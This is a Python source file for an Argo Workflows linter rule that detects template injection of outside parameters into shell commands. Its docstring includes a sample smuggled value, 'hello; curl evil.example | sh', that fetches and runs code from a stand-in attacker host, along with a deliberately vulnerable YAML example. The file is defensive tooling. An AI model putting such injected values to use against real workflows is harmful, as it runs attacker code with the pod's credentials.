from argolint.diagnostics import Finding, Severity
from argolint.rules.base import Rule


class TemplateInjection(Rule):
    """A parameter that comes from outside is interpolated into a shell command line.

    ## What it does
    Reports each `{{...}}` tag in the script of a shell (`sh -c`, `bash -c` ... in a
    container's `command` and `args`, or the `source` of a script template run by a shell)
    that interpolates outside input, with the path by which the value gets there. Outside
    input is a workflow parameter (`{{workflow.parameters.X}}`, set by `argo submit -p` or an
    Argo Events sensor), an input of the entrypoint template, and an input of any template
    that receives one of these through step or task `arguments` (at any depth, into the
    templates of a WorkflowTemplate called by `templateRef` too: that case is reported at
    the argument carrying the value, with the command it reaches). A parameter with an
    `enum` is not outside input, nor is anything the workflow computes itself (the outputs
    of its steps and tasks, `item`).

    ## Why is this bad?
    Argo pastes the value into the command line before the shell parses it: a value like
    `hello; curl evil.example | sh` runs the attacker's commands in the pod, with its service
    account and secrets. Whoever can submit the workflow, or trigger the sensor, can do
    it.

    ## Example
    ```yaml
    - name: greet
      inputs:
        parameters:
        - name: message
      container:
        image: alpine:3.20
        command: [sh, -c]
        args: ["echo {{inputs.parameters.message}}"]
    ```

    Use instead: pass the value as an environment variable, which the shell does not parse:
    ```yaml
    - name: greet
      inputs:
        parameters:
        - name: message
      container:
        image: alpine:3.20
        command: [sh, -c]
        args: ['echo "$MESSAGE"']
        env:
        - name: MESSAGE
          value: "{{inputs.parameters.message}}"
    ```
    """

    id = "template-injection"
    severity = Severity.ERROR
    category = "security"
    security_severity = "9.0"

    def check_document(self, ctx):
        from argolint.analysis.injection import injections

        for found in injections(ctx):
            path = " → ".join(found.trace)
            if found.start is None:
                message = (f"this argument carries outside input into {found.sink}, where `{found.text}` is "
                           f"interpolated into the command line: {path}")
            else:
                message = f"`{found.text}` interpolates outside input into {found.sink}: {path}"
            yield Finding(found.path, message, start=found.start, end=found.end,
                          hint=f"pass it as an environment variable (`env: [{{name: {found.variable}, value: "
                          f"\"{found.text}\"}}]`) and use \"${found.variable}\" in the command")
